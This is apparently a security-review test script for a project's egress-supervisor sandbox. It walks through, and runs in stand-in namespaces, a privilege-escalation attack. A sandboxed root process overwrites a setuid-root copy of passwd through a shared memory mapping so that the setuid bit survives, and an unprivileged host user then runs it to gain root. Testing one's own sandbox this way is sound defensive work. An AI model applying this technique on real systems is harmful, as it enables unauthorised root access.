#!/bin/bash
# ha21-setid.sh (hostile review h-attack21, against 5322a52): a root agent
# rewrites a setuid-root program on a declared path with a program of its
# own (ha21-setid.c) and keeps S_ISUID although CAP_FSETID is dropped:
#  A (held): making one there by copy-up: an overlay in a user+mount
#     namespace of its own with /usr/bin below and the declared path above
#     needs host uid 0 mapped in it (copy-up refuses an unmapped owner),
#     and mapping uid 0 needs CAP_SETFCAP (dropped): uid_map EPERM;
#  B: ha20's case C (a setuid-root program already on the declared path: a
#     root file system being built there) rewritten through a shared
#     mapping (ha21-payload over its first bytes): a write through a
#     mapping does not clear S_ISUID (write(), truncate and fallocate do).
# uid 1000 then runs it on the host, outside the run, and gets uid 0.
# Stand-ins in a private mount namespace: a tmpfs at /tmp/ha21/work for the
# declared path (the host's mount of it allows setuid, as / does), one at
# /tmp/ha21/host with a root-only directory.
set -uo pipefail
cd "$(dirname "$0")/../.." || exit 2
SV=${SV:-$PWD/build/egress-supervisor}
. tests/review/review-lock.sh
review_lock dir-ha21 || exit 2 # one run at a time: another would rebuild under /tmp/ha21
mkdir -p /tmp/ha21
gcc -O2 -static -o /tmp/ha21/setid tests/review/ha21-setid.c || exit 2
gcc -Os -nostdlib -static -fno-pie -no-pie -fno-stack-protector -s -o /tmp/ha21/payload \
	tests/review/ha21-payload.c || exit 2
cat >/tmp/ha21/setid-inner.sh <<'INNER'
set -u
exec 2>&1
SV=$1 H=/tmp/ha21/host W=/tmp/ha21/work
mkdir -p $H $W
mount -t tmpfs -o mode=755 ha21-host $H
mount -t tmpfs -o mode=755 ha21-work $W
mkdir -m 700 $H/secret
echo "== A: copy-up of /usr/bin/passwd into the declared path"
"$SV" --writable $W -- /tmp/ha21/setid copyup /usr/bin passwd $W
echo "supervisor exit $?"
echo "== B: a setuid-root program on the declared path, rewritten through a mapping"
mkdir -p $W/rootfs/usr/bin
cp /usr/bin/passwd $W/rootfs/usr/bin/passwd
chmod 4755 $W/rootfs/usr/bin/passwd
"$SV" --writable $W -- /tmp/ha21/setid mmap $W/rootfs/usr/bin/passwd /tmp/ha21/payload
echo "supervisor exit $?"
echo "host sees: $(stat -c '%A %U:%G %s' $W/rootfs/usr/bin/passwd)"
echo "uid 1000 runs it on the host, outside the run:"
setpriv --reuid 1000 --regid 1000 --clear-groups $W/rootfs/usr/bin/passwd "id >$H/secret/marker"
echo "host's root-only marker: $(cat $H/secret/marker 2>&1)"
umount $W $H
INNER
timeout 60 unshare -m --propagation private bash /tmp/ha21/setid-inner.sh "$SV"
rm -f /tmp/ha21/setid-inner.sh
